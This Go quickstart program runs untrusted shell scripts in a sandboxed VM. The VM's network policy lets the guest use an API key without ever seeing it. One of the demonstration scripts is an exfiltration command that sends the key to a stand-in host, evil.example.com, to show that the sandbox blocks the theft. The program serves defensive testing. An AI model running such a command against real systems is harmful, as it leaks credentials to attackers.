// Command quickstart runs untrusted code in a VM and lets it use an API key
// that it never sees.
//
// So that it works anywhere, the API is a server of its own on this machine;
// see api.go. The Upstream field leads the guest's requests there. Without that
// field they would go to the real host.
package main

import (
	"context"
	"fmt"
	"io"
	"os"

	"gondolin"
	"gondolin/policy"
	"gondolin/vfs"
)

// apiKey is the secret: known to this program and to the API.
const apiKey = "sk-live-3f9a61c5d2"

func main() {
	if err := run(context.Background(), os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "quickstart:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, out io.Writer) error {
	api, err := startAPI(apiKey)
	if err != nil {
		return err
	}
	defer api.Close()

	vm, err := gondolin.Start(ctx, gondolin.Config{
		Network: policy.Network{
			Allow:         []policy.Rule{{Host: "api.example.com"}},
			AllowInternal: []string{"api.example.com"}, // it is on this machine
			Secrets: map[string]policy.Secret{
				"API_KEY": {Hosts: []string{"api.example.com"}, Value: apiKey},
			},
		},
		Mounts:   map[string]vfs.FS{"/": vfs.Memory()}, // appears as /data
		Upstream: api.Upstream(),
	})
	if err != nil {
		return err
	}
	defer vm.Close()

	for _, script := range []string{
		`uname -sr`,
		`echo "$API_KEY" | cut -c1-16`,
		`curl -sS -H "Authorization: Bearer $API_KEY" https://api.example.com/whoami | tee /data/answer`,
		`curl -sS https://evil.example.com/?stolen=$API_KEY`,
		`ls /data; cat /data/answer`,
	} {
		fmt.Fprintf(out, "guest$ %s\n", script)
		answer, err := vm.Shell(ctx, script).CombinedOutput()
		fmt.Fprintf(out, "%s", answer)
		if err != nil {
			return fmt.Errorf("%s: %w", script, err)
		}
	}
	fmt.Fprintf(out, "the API received: %s\n", api.Received())
	return nil
}
